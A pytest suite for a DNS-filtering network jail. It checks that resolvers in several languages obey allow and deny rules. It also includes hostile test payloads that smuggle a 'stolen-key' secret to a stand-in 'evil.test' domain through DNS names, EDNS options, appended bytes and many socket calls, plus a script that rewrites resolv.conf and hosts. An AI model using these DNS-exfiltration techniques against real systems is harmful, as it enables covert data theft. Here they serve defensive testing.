"""
Look-ups, the whole way: programs in the jail, name servers of the tests outside it.

Each runs in a network namespace of its own, with a resolv.conf that names the servers.
What is judged is what they received.
"""

from __future__ import annotations

import contextlib
import errno
import functools
import http.server
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import dns.edns
import dns.flags
import dns.message
import dns.name
import dns.rdatatype
import pytest
from conftest import FIXTURES
from jail import Result, Runner, needs, read_events, unmet
from nameserver import NameServer
from network import RESOLVER, Network

HOST, ALIAS = "www.example.test", "cdn.example.net"
WEB4, WEB6 = "198.51.100.80", "2001:db8::80"


@dataclass
class Scene:
    """A runner whose programs run in a network."""

    runner: Runner
    network: Network

    @property
    def server(self) -> NameServer:
        return self.network.server

    def native(self, *words: str, timeout: float = 60) -> Result:
        prefix = [*self.network.prefix, *self.runner.user.prefix]
        result = self.runner.run([*prefix, *words], timeout)
        self.network.settle()
        return result

    def trace(self, *options: str, command: list[str], timeout: float = 60) -> Result:
        self.runner.runs += 1
        journal = self.runner.workdir / f"events-{self.runner.runs}.jsonl"
        words = [*self.network.prefix, *self.runner.jailed(*options, events=journal), *command]
        result = self.runner.run(words, timeout)
        self.network.settle()
        return Result(result.status, result.stdout, result.stderr, read_events(journal))


@pytest.fixture
def make(runner: Runner) -> Iterator[Callable[..., Scene]]:
    needs("nsenter", "unshare", "ip")
    with contextlib.ExitStack() as stack:

        def scene(*resolvers: str, options: str = "") -> Scene:
            try:
                network = Network(resolvers or (RESOLVER,), options)
            except (OSError, subprocess.CalledProcessError) as error:
                unmet(f"no network namespace: {error}")
                raise
            stack.callback(network.close)
            network.address(WEB4, WEB6)
            network.zone.add(HOST, "CNAME", f"{ALIAS}.")
            network.zone.add(ALIAS, "A", WEB4)
            network.zone.add(ALIAS, "AAAA", WEB6)
            return Scene(runner, network)

        yield scene


@pytest.fixture
def scene(make) -> Scene:
    return make()


class Web(http.server.ThreadingHTTPServer):
    """A directory over HTTP, for both families; *seen* are the hosts that were asked for."""

    address_family = socket.AF_INET6
    daemon_threads = True

    def __init__(self, directory: Path) -> None:
        self.seen: list[str] = []
        seen = self.seen

        class Handler(http.server.SimpleHTTPRequestHandler):
            def log_message(self, format: str, *arguments: object) -> None:
                seen.append(self.headers["Host"])

        super().__init__(("::", 80), functools.partial(Handler, directory=str(directory)))
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.fixture
def web(scene, tmp_path) -> Iterator[Web]:
    (tmp_path / "file").write_text("hello\n")
    server = scene.network.inside(lambda: Web(tmp_path))
    yield server
    server.shutdown()
    server.server_close()


def asked(result: Result) -> list[tuple[str, str, str]]:
    """The look-ups in a journal: verdict, name, type."""
    return [
        (one.verdict, one.dest.name, one.dest.type)
        for one in result.attempts
        if one.operation == "resolve"
    ]


# ---- programs ----


def fixture_of(*build: str) -> Callable[[Scene], list[str]]:
    return lambda scene: [scene.runner.program("resolve", *build)]


def go(scene: Scene) -> list[str]:
    needs("go")
    place = Path(scene.runner.python).parent.parent.parent
    target = place / "go-lookup"
    if not target.exists():
        env = {"CGO_ENABLED": "0", "GOPROXY": "off", "GO111MODULE": "off"}
        env |= {"GOCACHE": str(place / "go-cache"), "GOPATH": str(place / "go")}
        words = ["go", "build", "-o", str(target), str(FIXTURES / "real" / "lookup.go")]
        subprocess.run(words, check=True, env={**os.environ, **env}, cwd=place)
        target.chmod(0o755)
    return [str(target)]


def words(*command: str) -> Callable[[Scene], list[str]]:
    def made(scene: Scene) -> list[str]:
        needs(command[0])
        return [scene.runner.python if command[0] == "python3" else command[0], *command[1:]]

    return made


_PYTHON = (
    "import socket, sys\n"
    "try: rows = socket.getaddrinfo(sys.argv[1], 80, type=socket.SOCK_STREAM)\n"
    "except socket.gaierror as e: sys.exit({-2: 2, -5: 2}.get(e.errno, 11))\n"
    "print(*sorted(row[4][0] for row in rows), sep='\\n')\n"
)
_NODE = (
    "const dns = require('dns');"
    "dns.{call}(process.argv[1], {options}(error, found) => {{"
    "  if (error) process.exit(error.code == 'ENOTFOUND' ? 2 : 11);"
    "  console.log(found.map(one => one.address || one).sort().join('\\n')); }})"
)

PROGRAMS = {
    "glibc": fixture_of(),
    "glibc-static": fixture_of("-static"),
    "musl": fixture_of("musl"),
    "go": go,
    "python": words("python3", "-c", _PYTHON),
    "getent": words("getent", "ahosts"),
    "node-lookup": words("node", "-e", _NODE.format(call="lookup", options="{all: true}, ")),
    "node-resolve": words("node", "-e", _NODE.format(call="resolve4", options="")),
    "dig": words("dig", "+short", "+tries=1"),
    "dig-tcp": words("dig", "+short", "+tcp", "+tries=1"),
    "dig-txt": words("dig", "+short", "-t", "TXT"),
    "host": words("host", "-t", "AAAA"),
}
every_program = pytest.mark.parametrize("client", list(PROGRAMS))


@every_program
def test_an_allowed_name_is_what_it_is_without_a_jail(scene, client):
    scene.network.zone.add(ALIAS, "TXT", '"hello"')
    command = [*PROGRAMS[client](scene), HOST]
    native = scene.native(*command)
    assert native.status == 0
    assert native.stdout
    # The search goes on behind it in both.
    scene.server.received.clear()
    result = scene.trace("--allow", f"{HOST}:80", command=command)
    assert (result.status, lines(result)) == (native.status, lines(native))
    assert scene.server.names <= {f"{HOST}.", f"{ALIAS}."}
    assert {("allow", HOST)} == {one[:2] for one in asked(result)}


@every_program
@pytest.mark.parametrize("resolvers", [1, 2])
def test_a_name_that_is_not_allowed_is_refused_at_once(make, client, resolvers):
    scene = make(*(RESOLVER, "192.0.2.54")[:resolvers])
    command = [*PROGRAMS[client](scene), HOST]
    result = scene.trace("--allow", "other.test:80", command=command, timeout=40)
    assert result.status != 0 or client.startswith("dig")
    assert result.stdout in ("", f"Host {HOST} not found: 3(NXDOMAIN)\n")
    assert [server.received for server in scene.network.servers] == [[]] * resolvers
    denied = [one for one in result.attempts if one.operation == "resolve"]
    assert {(one.verdict, one.dest.name, one.reason) for one in denied} == {
        ("deny", HOST, "default")
    }
    assert {one.fix for one in denied} == {f"--allow {HOST}"}
    assert f"look-up of {HOST}" in result.stderr


@pytest.mark.parametrize("build", [["-m32"], ["-m32", "-static"]], ids=["dynamic", "static"])
def test_32_bit_programs_look_up_as_others_do(scene, i386, build):
    command = [scene.runner.program("resolve", *build), HOST]
    allowed = scene.trace("--allow", HOST, command=command)
    assert (allowed.status, allowed.stdout) == (0, f"{WEB4}\n{WEB6}\n")
    assert scene.trace(command=command).status == errno.ENOENT


CLIENTS = {
    "curl": words("curl", "-sS", f"http://{HOST}/file"),
    "wget": words("wget", "-q", "-t1", "-O-", f"http://{HOST}/file"),
    "python": words(
        "python3",
        "-c",
        "import sys, urllib.request as r; print(r.urlopen(sys.argv[1]).read().decode(), end='')",
        f"http://{HOST}/file",
    ),
    "node": words(
        "node",
        "-e",
        "require('http').get(process.argv[1], r => r.pipe(process.stdout))"
        ".on('error', e => process.exit(6))",
        f"http://{HOST}/file",
    ),
}


@pytest.mark.parametrize("client", list(CLIENTS))
def test_the_first_run_says_what_to_add_and_the_second_works(scene, web, client):
    command = CLIENTS[client](scene)
    native = scene.native(*command)
    assert (native.status, native.stdout) == (0, "hello\n")
    scene.server.received.clear()
    web.seen.clear()

    first = scene.trace(command=command)
    assert first.status != 0
    assert (scene.server.received, web.seen) == ([], [])
    fixes = {one.fix for one in first.attempts if one.fix and one.operation == "resolve"}
    assert fixes == {f"--allow {HOST}:80"}

    second = scene.trace(*fixes.pop().split(), command=command)
    assert (second.status, second.stdout) == (0, "hello\n")
    assert web.seen == [HOST]
    (reached,) = {
        (one.dest.name, *one.dest.names, one.dest.known)
        for one in second.attempts
        if one.dest.port == 80 and one.verdict == "allow"
    }
    assert reached == (HOST, HOST, "asked")
    assert f"{HOST}:80" in second.stderr


def test_git_and_pip(scene, web, tmp_path):
    needs("git")
    env = {**os.environ, "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1"}
    run = functools.partial(subprocess.run, check=True, env=env, capture_output=True)
    who = ["-c", "user.name=A", "-c", "user.email=a@example.org"]
    run(["git", "init", "-q", str(tmp_path / "work")])
    run(["git", "-C", str(tmp_path / "work"), *who, "commit", "-q", "--allow-empty", "-m", "x"])
    run(["git", "clone", "-q", "--bare", str(tmp_path / "work"), str(tmp_path / "demo.git")])
    run(["git", "-C", str(tmp_path / "demo.git"), "update-server-info"])
    command = ["git", "ls-remote", f"http://{HOST}/demo.git"]
    result = scene.trace("--allow", f"{HOST}:80", command=command)
    assert (result.status, "HEAD" in result.stdout) == (0, True)
    denied = scene.trace("--allow", "other.test", command=command)
    assert "Could not resolve host" in denied.stderr
    assert {one.fix for one in denied.attempts if one.operation == "resolve"} == {
        f"--allow {HOST}:80"
    }

    (tmp_path / "simple" / "demo").mkdir(parents=True)
    (tmp_path / "simple" / "demo" / "index.html").write_text("<a href='demo-1.tar.gz'>x</a>")
    index = ["--index-url", f"http://{HOST}/simple", "--trusted-host", HOST]
    pip = [scene.runner.python, "-m", "pip", "--disable-pip-version-check", "index", "versions"]
    result = scene.trace("--allow", f"{HOST}:80", command=[*pip, "demo", *index])
    assert (result.status, "demo (1)" in result.stdout) == (0, True)


# ---- rules ----


@pytest.mark.parametrize(
    ("options", "names", "reached"),
    [
        pytest.param(["--allow", "*.example.test:80"], [HOST], True, id="sub-domains"),
        pytest.param(["--allow", ".example.test"], [HOST], True, id="a-domain"),
        pytest.param(["--allow", "*.www.example.test"], [HOST], False, id="not-the-apex"),
        pytest.param(["--allow", f"{HOST}:81"], [HOST], None, id="another-port"),
        pytest.param(["--allow", f"{HOST}.:80"], [HOST.upper()], True, id="case"),
        pytest.param(["--allow", f"{HOST}:80"], [f"{HOST}."], True, id="the-last-dot"),
        pytest.param(["--allow", ":80"], [HOST], True, id="any-host"),
        pytest.param(["--allow", ":80", "--deny", "*.example.test"], [HOST], False, id="a-denial"),
        pytest.param(["--default", "allow"], [HOST], True, id="everything"),
        pytest.param(
            ["--default", "allow", "--deny", HOST], [HOST], False, id="everything-but-this"
        ),
        pytest.param(["--allow", WEB4, "--allow", f"[{WEB6}]"], [HOST], False, id="addresses"),
        pytest.param(
            ["--allow", WEB4, "--allow", f"[{WEB6}]", "--allow", "resolver"],
            [HOST],
            True,
            id="addresses-and-every-name",
        ),
    ],
)
def test_rules(scene, web, options, names, reached):
    needs("curl")
    for name in names:
        command = ["curl", "-sS", "-m", "20", f"http://{name}/file"]
        result = scene.trace(*options, command=command)
        assert bool(web.seen) == bool(reached)
        assert (result.status == 0) == bool(reached)
        # The supervisor asks for itself, to know whom a denied name means.
        assert bool(scene.server.received) == (reached is not False or HOST in options)
        assert scene.server.names <= {f"{HOST}.", f"{ALIAS}."}


def test_a_list_of_names(scene, web, tmp_path):
    path = tmp_path / "names"
    path.write_text(f"0.0.0.0 {HOST} other.test\n")
    path.chmod(0o644)
    tmp_path.chmod(0o755)
    listed = Path(scene.network.folder) / "names"
    listed.write_text(path.read_text())
    command = ["curl", "-sS", "-m", "20", f"http://{HOST}/file"]
    assert scene.trace("--allow", f"@{listed}", command=command).stdout == "hello\n"
    web.seen.clear()
    scene.server.received.clear()
    assert scene.trace("--allow", "any", "--deny", f"@{listed}", command=command).status == 6
    assert (web.seen, scene.server.received) == ([], [])


def test_audit_answers_everything_and_writes_it_down(scene):
    result = scene.trace("--audit", "--allow", "a.b", command=["getent", "ahosts", HOST])
    assert result.status == 0
    assert {one[:2] for one in asked(result)} == {("deny", HOST)}
    assert {f"{HOST}."} <= scene.server.names
    assert {one.result for one in result.attempts if one.operation == "resolve"} == {"ok"}


def test_the_hosts_file_needs_nobody(scene, web):
    scene.network.hosts.write_text(f"{WEB4} db.intern db\n127.0.0.1 localhost\n")
    command = ["curl", "-sS", "-m", "20", "http://db.intern/file"]
    for rule in ("db.intern", "*.intern", ".intern:80"):
        assert scene.trace("--allow", rule, command=command).stdout == "hello\n"
    assert scene.trace("--allow", "*.other", command=command).status == 7
    assert scene.server.received == []


def test_a_short_name_and_its_search_list(make):
    scene = make(options="search corp.test lab.test\n")
    scene.network.zone.add("db.lab.test", "A", WEB4)
    program = scene.runner.program("resolve")
    result = scene.trace("--allow", "db", command=[program, "db"])
    assert (result.status, result.stdout) == (0, f"{WEB4}\n")
    assert scene.server.names == {"db.corp.test.", "db.lab.test."}
    scene.server.received.clear()
    result = scene.trace("--allow", "other", command=[program, "db"])
    assert result.status == errno.ENOENT
    assert scene.server.received == []


def test_a_refused_variant_does_not_end_the_search(make):
    scene = make(options="search corp.test\noptions ndots:5\n")
    policy = scene.network.folder / "netjail.toml"
    policy.write_text('allow = ["*.example.test"]\ndns-refusal = "refused"\n')
    result = scene.trace("-p", str(policy), command=[scene.runner.program("resolve"), HOST])
    assert (result.status, result.stdout) == (0, f"{WEB4}\n{WEB6}\n")
    assert f"{HOST}.corp.test." not in scene.server.names


def test_a_policy_can_have_it_refused(scene):
    policy = scene.network.folder / "netjail.toml"
    policy.write_text('dns-refusal = "refused"\n')
    for options, status in ((["-p", str(policy)], "REFUSED"), ([], "NXDOMAIN")):
        result = scene.trace(*options, command=["dig", HOST])
        assert f"status: {status}" in result.stdout
        assert "EDE: 18 (Prohibited): (no rule allows looking up" in result.stdout


def test_a_name_that_turns_inwards(scene, web):
    scene.network.address("10.1.2.3")
    scene.network.zone.add(ALIAS, "A", "10.1.2.3")
    scene.network.zone.add(ALIAS, "AAAA")
    command = ["curl", "-sS", "-m", "20", f"http://{HOST}/file"]
    for rule in (HOST, "*.example.test"):
        result = scene.trace("--allow", rule, command=command)
        assert (result.status, web.seen) == (7, [])
        (attempt,) = (one for one in result.attempts if one.dest.port == 80)
        assert (attempt.reason, attempt.dest.name) == ("rebinding", HOST)
        assert attempt.fix == "--allow 10.1.2.3:80"
    assert scene.trace("--allow", HOST, "--allow", "private", command=command).status == 0


def test_what_a_program_says_it_heard_is_no_reason(scene, web):
    # It has the address from elsewhere, and only asks for an allowed name.
    scene.network.zone.add("allowed.test", "A", "198.51.100.1")
    script = f"getent ahosts allowed.test && curl -sS -m 30 http://{WEB4}/file"
    for rule in ("allowed.test", "*.test"):
        result = scene.trace("--allow", rule, command=["sh", "-c", script])
        assert (result.status, web.seen) == (7, [])
    (attempt,) = (one for one in result.attempts if one.dest.port == 80)
    assert (attempt.dest.names, attempt.dest.known) == ([], "none")
    assert attempt.why.endswith(", and no name led there")


def test_a_port_that_is_not_allowed_is_told_by_its_name(scene, web):
    command = ["curl", "-sS", "-m", "30", f"http://{HOST}/file"]
    for rule in (f"{HOST}:81", "*.example.test:81"):
        result = scene.trace("--allow", rule, command=command)
        assert (result.status, web.seen) == (7, [])
        denied = [one for one in result.attempts if one.dest.port == 80]
        assert {one.dest.ip for one in denied} == {WEB4, WEB6}
        assert {(one.dest.name, one.fix) for one in denied} == {(HOST, f"--allow {HOST}:80")}
    assert f"{HOST}:80 (" in result.stderr


def test_a_name_server_by_its_address_is_talked_to(scene):
    other = scene.network.inside(lambda: _other(scene))
    program = scene.runner.program("smuggle")
    raw = dns.message.make_query("secret.test", "A").to_wire().hex()
    for options, address, reaches in (
        (["--allow", f"{RESOLVER}:53"], RESOLVER, scene.server),
        (["--allow", "192.0.2.54:53"], "192.0.2.54", other),
        (["--allow", "resolver"], "192.0.2.54", None),
    ):
        scene.server.received.clear()
        other.received.clear()
        scene.trace(*options, command=[program, "write", address, raw])
        got = [server for server in (scene.server, other) if bytes.fromhex(raw) in server.received]
        assert got == ([reaches] if reaches else [])


def _other(scene: Scene) -> NameServer:
    scene.network.address("192.0.2.54")
    return NameServer("192.0.2.54", 53, scene.network.zone)


# ---- name servers in trouble ----


def lines(result: Result) -> list[str]:
    """What was printed; a name server gives its answers in any order."""
    return sorted(result.stdout.splitlines())


@pytest.mark.parametrize("client", ["glibc", "musl", "go", "dig", "node-resolve"])
@pytest.mark.parametrize("trouble", ["silent", "down", "wrong-id", "truncates", "many", "slow"])
def test_name_servers_in_trouble(make, client, trouble):
    scene = make(RESOLVER, "192.0.2.54")
    command = [*PROGRAMS[client](scene), HOST]
    expected = lines(scene.native(*command))
    first = scene.server
    match trouble:
        case "silent":
            first.silent = True
        case "down":
            first.close()
        case "wrong-id":
            first.wrong_id = True
        case "truncates":
            first.truncates = True
        case "slow":
            first.delay = 1.0
        case "many":
            scene.network.zone.add(ALIAS, "A", *(f"10.0.{n >> 8}.{n & 255}" for n in range(300)))
            expected = lines(scene.native(*command))
    result = scene.trace("--allow", HOST, command=command)
    assert (result.status, lines(result)) == (0, expected)


def test_nobody_answers_and_others_go_on(scene, web):
    scene.network.zone.add("slow.test", "A", WEB4)
    scene.server.silent = True
    script = "getent ahosts slow.test & curl -sS http://127.0.0.1:9/; echo done; wait"
    result = scene.trace("--allow", "slow.test", command=["sh", "-c", script])
    assert result.stdout == "done\n"
    assert {one.result for one in result.attempts if one.operation == "resolve"} == {"SERVFAIL"}


@pytest.mark.parametrize("client", ["glibc", "musl", "go", "dig", "node-resolve"])
@pytest.mark.parametrize("resolvers", [("2001:db8::53",), ("2001:db8::53", RESOLVER)])
def test_name_servers_over_ipv6(make, client, resolvers):
    scene = make(*resolvers)
    command = [*PROGRAMS[client](scene), HOST]
    expected = lines(scene.native(*command))
    scene.server.received.clear()
    result = scene.trace("--allow", HOST, command=command)
    assert (result.status, lines(result)) == (0, expected)
    assert scene.server.names <= {f"{HOST}.", f"{ALIAS}."}
    denied = scene.trace(command=command)
    assert {one[:2] for one in asked(denied)} == {("deny", HOST)}


_NSCD = """
import os, socket, struct, sys
os.makedirs("/run/nscd")
s = socket.socket(socket.AF_UNIX)
s.bind("/run/nscd/socket")
os.chmod("/run/nscd/socket", 0o777)
s.listen()
os.close(1)
os.close(2)
while True:
    one = s.accept()[0]
    who = struct.unpack("iii", one.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
    open(sys.argv[1], "a").write(f"{who[1]} ")
"""


def test_a_name_service_of_the_machine_is_passed_by(scene):
    told = scene.network.folder / "told"
    jailed = scene.runner.jailed("--allow", HOST)
    script = 'mount -t tmpfs t /run && (python3 -c "$0" "$1" & echo $! >&2) | cat; shift; exec "$@"'
    words = ["sh", "-c", script, _NSCD, str(told), *jailed, "getent", "ahosts", HOST]
    result = scene.runner.run([*scene.network.prefix, *words])
    with contextlib.suppress(ProcessLookupError):
        os.kill(int(result.stderr.split()[0]), 9)
    assert (result.status, WEB4 in result.stdout) == (0, True)
    assert "name services outside stay closed" in result.stderr
    # Who becomes another user asks before the jail begins, as root.
    users = told.read_text().split() if told.exists() else []
    assert str(scene.runner.user.uid) not in users


def test_threads_and_children_look_up_at_once(scene):
    for number in range(24):
        scene.network.zone.add(f"x{number}.example.test", "A", f"198.51.100.{number + 1}")
    script = """
import os, socket, sys, threading
def look(number):
    rows = socket.getaddrinfo(f"x{number}.example.test", 80, socket.AF_INET)
    if rows[0][4][0] != f"198.51.100.{number + 1}":
        os._exit(1)
# Before there are threads: glibc's resolver has locks that a fork beside them can copy.
children = []
for number in range(12, 24):
    child = os.fork()
    if not child:
        look(number)
        os._exit(0)
    children.append(child)
threads = [threading.Thread(target=look, args=(number,)) for number in range(12)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
sys.exit(any(os.waitpid(child, 0)[1] for child in children))
"""
    result = scene.trace("--allow", "*.example.test", command=[scene.runner.python, "-c", script])
    assert result.status == 0
    assert len({one[1] for one in asked(result)}) == 24


def test_a_socket_that_a_child_inherits(scene):
    # The parent's call leads it to the stub; a child asks by it, and hears who answers.
    raw = dns.message.make_query(HOST, "A").to_wire().hex()
    script = f"""
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
s.connect(("{RESOLVER}", 53))
if not os.fork():
    s.send(bytes.fromhex("{raw}"))
    print(s.recvfrom(512)[1], s.recvmsg, s.getpeername(), flush=True)
    os._exit(0)
os.wait()
"""
    result = scene.trace("--allow", HOST, command=[scene.runner.python, "-c", script])
    assert result.stdout.count(f"('{RESOLVER}', 53)") == 2


@pytest.mark.parametrize("family", ["AF_INET", "AF_INET6"])
def test_every_call_shows_the_name_server(scene, family):
    name = RESOLVER if family == "AF_INET" else f"::ffff:{RESOLVER}"
    raw = dns.message.make_query(HOST, "A").to_wire().hex()
    script = f"""
import socket
s = socket.socket(socket.{family}, socket.SOCK_DGRAM)
s.settimeout(20)
raw = bytes.fromhex("{raw}")
s.sendto(raw, ("{name}", 53)); print(s.recvfrom(512)[1][:2])
s.sendto(raw, ("{name}", 53)); print(s.recvmsg(512)[3][:2])
s.sendto(raw, ("{name}", 53)); print(s.recvfrom_into(bytearray(512))[1][:2])
s.connect(("{name}", 53)); s.send(raw); print(s.recvmsg(512)[3][:2]); print(s.getpeername()[:2])
t = socket.create_connection(("{name}", 53)); print(t.getpeername()[:2])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0))
u.sendto(b"x", u.getsockname()); print(u.recvfrom(9)[1] == u.getsockname())
"""
    options = ["--allow", HOST, "--allow", "self"]
    result = scene.trace(*options, command=[scene.runner.python, "-c", script])
    assert result.stdout.splitlines() == [str((name, 53))] * 6 + ["True"]


# ---- hostile programs ----

SECRET = "stolen-key"
WAYS = [
    *("sendto", "sendto-unspecified", "mapped", "sendmsg", "sendmmsg", "connected-sendmmsg"),
    *("send", "write", "writev", "sendfile", "splice", "thread", "child", "stream", "fast-open"),
]


def payload(kind: str) -> bytes:
    """A question that carries more than an allowed name."""
    name = "allowed.test"
    asks = dns.message.make_query(name, "A", use_edns=False)
    match kind:
        case "a-name":
            return dns.message.make_query(f"{SECRET}.evil.test", "A").to_wire()
        case "below-an-allowed-one":
            return dns.message.make_query(f"{SECRET}.{name}", "TXT").to_wire()
        case "an-option":
            option = dns.edns.GenericOption(65001, SECRET.encode())
            return dns.message.make_query(name, "A", options=[option]).to_wire()
        case "bytes-behind":
            return asks.to_wire() + SECRET.encode()
        case "two-questions":
            raw = bytearray(asks.to_wire())
            raw[5] = 2
            return bytes(raw) + dns.name.from_text(f"{SECRET}.test").to_wire() + b"\0\1\0\1"
        case "letters":
            return dns.message.make_query("aLLoWeD.TeSt", "A").to_wire()
        case "the-id":
            return SECRET[:2].encode() + asks.to_wire()[2:]
        case "another-class":
            return asks.to_wire()[:-1] + b"\3"
        case "a-dot-inside":
            inside = dns.name.Name((SECRET.encode(), b"x.allowed", b"test", b""))
            return dns.message.make_query(inside, "A").to_wire()
        case "no-question":
            return SECRET.encode() * 3
        case "a-huge-one":
            return asks.to_wire() + SECRET.encode() * 900
        case "an-update":
            return asks.to_wire()[:2] + b"\x28\0" + asks.to_wire()[4:] + SECRET.encode()
    raise AssertionError(kind)


PAYLOADS = [
    *("a-name", "below-an-allowed-one", "an-option", "bytes-behind", "two-questions", "letters"),
    *("the-id", "another-class", "a-dot-inside", "no-question", "a-huge-one", "an-update"),
]


def check_clean(scene: Scene, sent: list[bytes]) -> None:
    """Nothing reached a name server but plain questions for the allowed name."""
    for raw in scene.server.received:
        assert raw not in sent
        assert SECRET.encode() not in raw.lower()
        message = dns.message.from_wire(raw)
        (question,) = message.question
        assert question.name.to_text() == "allowed.test."
        assert dns.rdatatype.to_text(question.rdtype) in ("A", "AAAA")
        assert (message.options, message.flags, message.payload) == ((), dns.flags.RD, 1232)


@pytest.mark.parametrize("way", WAYS)
def test_no_way_of_sending_carries_a_secret(scene, way):
    scene.network.zone.add("allowed.test", "A", WEB4)
    program, raw = scene.runner.program("smuggle"), payload("a-name")
    native = scene.native(program, way, RESOLVER, raw.hex())
    assert native.status == 0
    assert raw in scene.server.received, "without a jail it gets out"
    scene.server.received.clear()
    result = scene.trace("--allow", "allowed.test", command=[program, way, RESOLVER, raw.hex()])
    assert result.status == 0
    check_clean(scene, [raw])
    assert ("deny", f"{SECRET}.evil.test", "A") in asked(result)


@pytest.mark.parametrize("way", WAYS)
def test_no_32_bit_way_does_either(scene, i386, way):
    program, raw = scene.runner.program("smuggle", "-m32"), payload("a-name")
    result = scene.trace("--allow", "allowed.test", command=[program, way, RESOLVER, raw.hex()])
    assert (result.status, scene.server.received) == (0, [])
    assert ("deny", f"{SECRET}.evil.test", "A") in asked(result)


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("way", ["write", "sendto", "stream"])
def test_no_question_carries_a_secret(scene, way, kind):
    scene.network.zone.add("allowed.test", "A", WEB4)
    program, raw = scene.runner.program("smuggle"), payload(kind)
    scene.native(program, way, RESOLVER, raw.hex())
    assert raw in scene.server.received
    scene.server.received.clear()
    result = scene.trace("--allow", "allowed.test", command=[program, way, RESOLVER, raw.hex()])
    assert result.status == 0
    check_clean(scene, [raw])
    assert asked(result), "and it is on record"


def test_a_flip_between_the_stub_and_another_server(scene):
    other = scene.network.inside(lambda: _other(scene))
    program = scene.runner.program("flip")
    targets = [f"udp://{RESOLVER}:53", "udp://192.0.2.54:53"]
    result = scene.trace(command=[program, "sendto", "thread", "1", *targets])
    assert result.status == 0
    assert (scene.server.received, other.received) == ([], [])


def test_many_names_are_bounded_and_written_down(scene):
    needs("dig")
    count = 300
    questions = scene.runner.workdir / "questions"
    questions.write_text("".join(f"x{n}.evil.test A\n" for n in range(count)))
    command = ["dig", "+tries=1", "+short", "-f", str(questions)]
    result = scene.trace("--allow", "allowed.test", command=command)
    assert scene.server.received == []
    assert {one[1] for one in asked(result)} == {f"x{n}.evil.test" for n in range(count)}


def test_a_program_with_a_filter_of_its_own(scene):
    # Its resolver gets answers from the stub's address; it must not die of our filter.
    script = (
        "import ctypes, socket, struct\n"
        "libc = ctypes.CDLL(None)\n"
        "code = struct.pack('HBBI', 0x06, 0, 0, 0x7fff0000)\n"
        "program = struct.pack('HxxxxxxQ', 1, ctypes.cast(code, ctypes.c_void_p).value)\n"
        "assert libc.prctl(38, 1, 0, 0, 0) == 0 and libc.prctl(22, 2, program) == 0\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"raw = bytes.fromhex('{payload('a-name').hex()}')\n"
        f"s.settimeout(20); s.sendto(raw, ('{RESOLVER}', 53))\n"
        "print(s.recvfrom(512)[0][3] & 15)\n"
    )
    result = scene.trace(command=[scene.runner.python, "-c", script])
    assert (result.status, result.stdout) == (0, "3\n")


def test_the_jail_cannot_say_itself_whom_to_ask(scene):
    # As root it can write the files that say where names lead.
    other = scene.network.inside(lambda: _other(scene))
    script = (
        "echo nameserver 192.0.2.54 > /etc/resolv.conf;"
        "echo 198.51.100.66 allowed.test >> /etc/hosts;"
        "curl -sS -m 30 http://allowed.test/; curl -sS -m 30 http://198.51.100.66/; exit 0"
    )
    scene.network.zone.add("allowed.test", "A", WEB4)
    result = scene.trace("--allow", "allowed.test", command=["sh", "-c", script])
    assert result.status == 0
    assert other.received == []
    assert not [
        one for one in result.attempts if one.dest.ip == "198.51.100.66" and one.verdict == "allow"
    ]


def test_names_are_looked_up_by_whom_the_rule_means(scene):
    resolve = scene.runner.program("resolve")
    other = scene.runner.workdir / "other"
    shutil.copy(resolve, other)
    policy = scene.runner.workdir / "policy.toml"
    policy.write_text(f'[[rule]]\nallow = "{HOST}"\nexe = "{resolve}"\n')
    result = scene.trace("-p", str(policy), command=[resolve, HOST])
    assert (result.exit_code, result.stdout) == (0, f"{WEB4}\n{WEB6}\n"), result.stderr
    asked = len(scene.server.asked)
    assert asked
    assert scene.trace("-p", str(policy), command=[str(other), HOST]).exit_code == errno.ENOENT
    assert len(scene.server.asked) == asked
    both = f"{resolve} {HOST}; {other} {HOST} || exec {resolve} {HOST}"
    result = scene.trace("-p", str(policy), command=["sh", "-c", both])
    assert (result.exit_code, result.stdout) == (0, f"{WEB4}\n{WEB6}\n" * 2), result.stderr
